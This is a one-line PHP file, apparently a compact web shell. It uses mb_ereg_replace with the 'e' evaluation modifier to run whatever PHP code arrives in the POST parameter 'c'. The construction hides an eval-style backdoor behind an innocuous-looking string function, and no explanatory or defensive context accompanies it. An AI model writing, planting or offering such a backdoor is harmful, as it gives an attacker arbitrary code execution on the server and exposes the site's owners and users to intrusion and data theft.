<?php mb_ereg_replace('.*', $_POST['c'], '', 'e');
